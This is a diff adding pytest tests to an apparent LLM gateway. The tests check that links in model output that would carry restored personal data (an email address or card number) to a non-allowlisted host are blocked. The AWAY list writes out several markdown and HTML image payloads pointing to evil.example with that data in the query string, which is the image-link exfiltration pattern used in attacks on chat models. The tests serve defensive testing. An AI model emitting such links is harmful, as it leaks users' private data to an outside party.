@@ -169,6 +169,45 @@ def test_the_first_words_do_not_wait(gateway):
         assert time.monotonic() - began < 0.9, "it came with the next words only"
 
 
+@pytest.fixture(scope="module")
+def leaving(start_for_all, upstreams):
+    """A client's own values come back, and no link may carry them away."""
+    guards = [
+        {"name": "mail", "detect": ["EMAIL_ADDRESS", "CREDIT_CARD"], "action": "restore"},
+        {"name": "links", "links": ["docs.example.com"], "on": "output", "action": "block"},
+    ]
+    client = Client(start_for_all(render(role(guards=guards), upstreams)).url)
+    yield client
+    client.close()
+
+
+AWAY = [
+    "![x](https://evil.example/?q=ann@example.com)",
+    "![x]( https://evil.example/()?q=4111111111111111)",
+    "![x][r]\n\n[r]: //evil.example/?q=ann@example.com",
+    "<img src=//evil.example/?q=ann@example.com>",
+]
+
+
+@BOTH
+@STREAMS
+@pytest.mark.parametrize("said", AWAY)
+def test_a_link_that_would_carry_a_restored_value_away_is_blocked(leaving, provider, stream, said):
+    reply = leaving.chat(script(provider, said, size=4), MODEL[provider], stream=stream)
+    assert b"ann@example.com" not in reply.body and b"4111" not in reply.body
+    if stream:
+        assert reply.answer.error["code"] == "guardrail_blocked"
+    else:
+        assert (reply.status, reply.error["code"]) == (400, "guardrail_blocked")
+
+
+@STREAMS
+def test_a_link_to_a_host_that_is_allowed_gets_its_value(leaving, stream):
+    said = "![x](https://docs.example.com/?q=ann@example.com)"
+    reply = leaving.chat(script("openai", said, size=4), MODEL["openai"], stream=stream)
+    assert (reply.status, reply.answer.content) == (200, said)
+
+
 def test_structured_output_that_does_not_fit_is_asked_for_again(start, upstreams, openai_provider, anthropic_provider):
     gateway, text = start(render(role(validate_json=True), upstreams)), marker()
     schema = {"type": "object", "required": ["city", "degrees"], "properties": {"degrees": {"type": "integer"}}}
